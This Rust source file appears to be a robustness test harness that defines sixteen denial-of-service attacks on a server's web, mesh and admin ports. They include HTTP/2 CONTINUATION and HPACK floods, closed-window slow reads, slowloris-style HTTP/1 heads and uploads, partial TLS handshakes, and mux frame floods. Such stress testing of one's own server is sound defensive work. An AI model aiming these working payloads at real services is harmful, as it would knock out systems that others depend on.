//! The attacks: each fills streams, connections, heads, handshakes, queues or observers up to their limits,
//! as often as possible.

use std::any::Any;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

use rustls::ClientConfig;

use crate::clients::{self, Member};

/// Addresses to attack.
pub(crate) struct Target {
    pub(crate) web: SocketAddr,
    pub(crate) mesh: SocketAddr,
    pub(crate) admin: SocketAddr,
    pub(crate) member: Arc<ClientConfig>,
}

/// Resources of an attack, which continues until they are dropped.
pub(crate) type Held = Box<dyn Any>;

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) start: fn(&Target) -> Held,
}

const fn attack(name: &'static str, start: fn(&Target) -> Held) -> Attack {
    Attack { name, start }
}

pub(crate) const ATTACKS: [Attack; 16] = [
    attack("h2-slow-5", |target| {
        h2(target, 5, &h2_gets("/bytes/10000000"))
    }),
    attack("h2-slow-40", |target| {
        h2(target, 40, &h2_gets("/bytes/10000000"))
    }),
    attack("h2-closed-windows", |target| {
        let mut bytes = h2_start(0);
        bytes.extend(h2_gets("/bytes/10000000"));
        held(clients::silent(target.web, 40, &bytes))
    }),
    attack("h2-uploads", |target| h2(target, 40, &h2_uploads())),
    attack("h2-heads", |target| h2(target, 40, &h2_heads())),
    attack("h2-continuation", |target| {
        h2(target, 400, &h2_continuation())
    }),
    attack("h1-slow", |target| {
        let request = "GET /bytes/10000000 HTTP/1.1\r\nhost: a\r\n\r\n";
        held(clients::silent(target.web, 1000, request.as_bytes()))
    }),
    attack("h1-pipeline", |target| {
        let request = "GET /bytes/50000 HTTP/1.1\r\nhost: a\r\n\r\n".repeat(1600);
        held(clients::silent(target.web, 1000, request.as_bytes()))
    }),
    attack("h1-uploads", |target| {
        let mut request =
            b"POST /hang HTTP/1.1\r\nhost: a\r\ncontent-length: 10000000\r\n\r\n".to_vec();
        request.resize(request.len() + 1_000_000, b'x');
        uploads(target, 1500, &request)
    }),
    attack("h1-heads", |target| {
        let head = format!(
            "GET / HTTP/1.1\r\nhost: a\r\nx-long: {}",
            "x".repeat(60_000)
        );
        held(clients::silent(target.web, 1000, head.as_bytes()))
    }),
    attack("retries", |target| {
        let body = "x".repeat(60_000);
        let request =
            format!("PUT /hang HTTP/1.1\r\nhost: a\r\ncontent-length: 60000\r\n\r\n{body}");
        held(clients::silent(target.web, 1000, request.as_bytes()))
    }),
    attack("queue", |target| h2(target, 40, &h2_queued())),
    attack("mux-slow", |target| mux(target, 40, &mux_gets())),
    attack("mux-uploads", |target| mux(target, 40, &mux_uploads())),
    attack("handshakes", |target| {
        let hello = clients::hello(&target.member);
        let mut streams = clients::silent(target.mesh, 750, &hello);
        // A client that announces a long message and sends most of it.
        let mut long = vec![22, 3, 1, 0x3f, 0xf0, 1, 0, 0xff, 0xf0, 3, 3];
        long.resize(16_000, 7);
        streams.extend(clients::silent(target.mesh, 750, &long));
        held(streams)
    }),
    attack("taps", taps),
];

fn held(what: impl Any) -> Held {
    Box::new(what)
}

/// Runs many uploads in parallel, each for a while.
fn uploads(target: &Target, count: usize, request: &[u8]) -> Held {
    let address = target.web;
    let streams = thread::scope(|scope| {
        let parts: Vec<_> = (0..10)
            .map(|_| scope.spawn(move || clients::silent(address, count / 10, request)))
            .collect();
        let streams = parts.into_iter().flat_map(|part| part.join().unwrap());
        streams.collect::<Vec<_>>()
    });
    held(streams)
}

const STREAMS: u32 = 100;
const WINDOW: u32 = (1 << 31) - 1;

fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let header = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&header, payload].concat()
}

/// Returns the preface and settings with stream windows of this size; the connection's window is the maximum.
fn h2_start(window: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
    bytes.extend(h2_frame(4, 0, 0, &settings));
    let more = WINDOW - 65_535;
    bytes.extend(h2_frame(8, 0, 0, &more.to_be_bytes()));
    bytes
}

fn h2(target: &Target, connections: usize, requests: &[u8]) -> Held {
    let mut bytes = h2_start(WINDOW);
    bytes.extend_from_slice(requests);
    held(clients::silent(target.web, connections, &bytes))
}

/// Appends a plain HPACK string.
fn text(bytes: &mut Vec<u8>, text: &str) {
    match u8::try_from(text.len()) {
        Ok(length @ ..127) => bytes.push(length),
        _ => {
            bytes.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                bytes.push(u8::try_from(rest % 128).unwrap() | 128);
                rest /= 128;
            }
            bytes.push(u8::try_from(rest).unwrap());
        }
    }
    bytes.extend_from_slice(text.as_bytes());
}

/// Returns the head of a request: indexed method, `http`, host and path.
fn head(method: u8, host: &str, path: &str) -> Vec<u8> {
    let mut bytes = vec![method, 0x86, 0x01];
    text(&mut bytes, host);
    bytes.push(0x04);
    text(&mut bytes, path);
    bytes
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

fn h2_gets(path: &str) -> Vec<u8> {
    let head = head(GET, "a", path);
    let frames = (0..STREAMS).map(|i| h2_frame(1, 5, 2 * i + 1, &head));
    frames.flatten().collect()
}

/// Returns uploads up to the windows of the streams and of the connection.
fn h2_uploads() -> Vec<u8> {
    let head = head(POST, "a", "/hang");
    let data = [0; 10_000];
    let frames = (0..STREAMS).flat_map(|i| {
        let stream = 2 * i + 1;
        [h2_frame(1, 4, stream, &head), h2_frame(0, 0, stream, &data)].concat()
    });
    frames.collect()
}

/// Returns long header lists in few bytes: the first stream defines one that all others repeat.
fn h2_heads() -> Vec<u8> {
    let mut frames = Vec::new();
    for i in 0..STREAMS {
        let mut head = head(GET, "a", "/hang");
        if i == 0 {
            head.push(0x40);
            text(&mut head, "x-long");
            text(&mut head, &"x".repeat(3900));
        }
        head.extend([0xbe; 15]);
        frames.extend(h2_frame(1, 5, 2 * i + 1, &head));
    }
    frames
}

/// Returns a head without end.
fn h2_continuation() -> Vec<u8> {
    let mut first = head(GET, "a", "/hang");
    first.extend([0, 1, b'x']);
    text(&mut first, &"x".repeat(15_000));
    let mut frames = h2_frame(1, 1, 1, &first);
    for _ in 0..2 {
        let mut more = vec![0, 1, b'y'];
        text(&mut more, &"x".repeat(15_000));
        frames.extend(h2_frame(9, 0, 1, &more));
    }
    frames
}

/// Returns requests with heads of 8 kB that wait for a slot at their server.
fn h2_queued() -> Vec<u8> {
    let mut head = head(GET, "queue", "/hang");
    for name in ["x-a", "x-b"] {
        head.push(0);
        text(&mut head, name);
        text(&mut head, &"x".repeat(4000));
    }
    let frames = (0..STREAMS).map(|i| h2_frame(1, 5, 2 * i + 1, &head));
    frames.flatten().collect()
}

fn mux_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).unwrap().to_be_bytes();
    let header = [&length[..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&header, payload].concat()
}

/// Opens connections of mesh members, some in parallel, since a handshake takes time.
fn mux(target: &Target, connections: usize, frames: &[u8]) -> Held {
    let (address, config) = (target.mesh, &target.member);
    let connect = || {
        let mut member = Member::connect(address, config).ok()?;
        member.send(frames);
        Some(member)
    };
    held(
        (0..connections)
            .map_while(|_| connect())
            .collect::<Vec<_>>(),
    )
}

fn mux_gets() -> Vec<u8> {
    let more = (WINDOW - (1 << 21)).to_be_bytes();
    let mut frames = mux_frame(4, 0, 0, &more);
    for stream in 1..=STREAMS {
        let head = b"GET /bytes/10000000 HTTP/1.1\r\nhost: a\r\n\r\n";
        frames.extend(mux_frame(1, 1, stream, head));
        frames.extend(mux_frame(4, 0, stream, &more));
    }
    frames
}

fn mux_uploads() -> Vec<u8> {
    let mut frames = Vec::new();
    for stream in 1..=STREAMS {
        let head = b"POST /hang HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n";
        frames.extend(mux_frame(1, 0, stream, head));
        frames.extend(mux_frame(0, 0, stream, &[0; 10_000]));
    }
    frames
}

/// Threads that are stopped on drop.
struct Running(Arc<AtomicBool>, Vec<thread::JoinHandle<()>>);

impl Drop for Running {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
        for thread in self.1.drain(..) {
            thread.join().unwrap();
        }
    }
}

/// Opens taps that are never read, and sends requests with long paths.
fn taps(target: &Target) -> Held {
    let taps = clients::silent(
        target.admin,
        8,
        b"GET /tap HTTP/1.1\r\nhost: localhost\r\n\r\n",
    );
    let stop = Arc::new(AtomicBool::new(false));
    let address = target.web;
    let ask = || {
        let stop = Arc::clone(&stop);
        thread::spawn(move || {
            let path = "x".repeat(60_000);
            let request = format!("GET /status/204?{path} HTTP/1.1\r\nhost: a\r\n\r\n");
            let Ok(mut client) = clients::connect(address, None) else {
                return;
            };
            while !stop.load(Ordering::Relaxed) {
                clients::send(&mut client, request.as_bytes());
                let _ = client.set_nonblocking(false);
                let mut answer = [0; 4096];
                if !matches!(std::io::Read::read(&mut client, &mut answer), Ok(1..)) {
                    return;
                }
            }
        })
    };
    let threads = (0..4).map(|_| ask()).collect();
    held((taps, Running(stop, threads)))
}
